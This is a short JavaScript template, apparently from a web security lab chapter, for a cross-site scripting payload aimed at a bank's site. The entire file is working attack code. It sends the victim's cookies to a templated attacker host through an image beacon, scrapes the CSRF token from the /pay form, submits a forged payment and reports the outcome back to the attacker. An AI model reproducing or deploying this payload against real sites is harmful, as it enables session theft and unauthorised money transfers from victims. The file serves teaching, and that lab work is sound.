// wirelab chapter 11: what an XSS runs in the bank's origin (the book's attack.js, made to work).
(function () {
  var home = {{ attacker | tojson }};
  function report(fields) {
    fields.page = location.origin;
    new Image().src = home + "/steal?" + new URLSearchParams(fields).toString();
  }
  report({cookie: document.cookie});
  fetch("/pay", {credentials: "same-origin"})
    .then(function (reply) { return reply.text(); })
    .then(function (form) {
      var body = new URLSearchParams({{ theft | tojson }});
      var token = form.match(/name="csrf_token" type="hidden" value="([^"]*)"/);
      if (token) { body.set("csrf_token", token[1]); }
      return fetch("/pay", {method: "POST", body: body, credentials: "same-origin",
                            redirect: "manual"});
    })
    .then(function (reply) {
      report({paid: reply.type === "opaqueredirect" ? "redirected" : String(reply.status)});
    })
    .catch(function (error) { report({failed: String(error)}); });
})();
